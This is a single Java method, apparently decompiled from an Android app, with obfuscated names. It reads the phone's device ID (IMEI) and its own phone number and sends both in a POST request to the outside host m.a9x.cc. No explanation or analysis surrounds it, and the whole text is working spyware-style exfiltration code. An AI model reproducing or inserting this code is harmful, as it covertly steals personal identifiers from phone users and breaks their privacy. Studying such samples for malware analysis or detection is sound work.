public void b(android.content.Context p4) {
  android.telephony.TelephonyManager v0_1 =
      ((android.telephony.TelephonyManager) p4.getSystemService("phone"));
  String v1_2 = v0_1.getDeviceId();
  String v2_0 = v0_1.getLine1Number();
  java.net.HttpURLConnection v3_1 = ((java.net.HttpURLConnection)
      new java.net.URL("http://m.a9x.cc/r").openConnection());
  v3_1.setRequestMethod("POST");
  v3_1.setDoOutput(1);
  java.io.OutputStream v4_2 = v3_1.getOutputStream();
  v4_2.write(("i=" + v1_2 + "&n=" + v2_0).getBytes());
  v4_2.close();
  v3_1.getResponseCode();
  return;
}
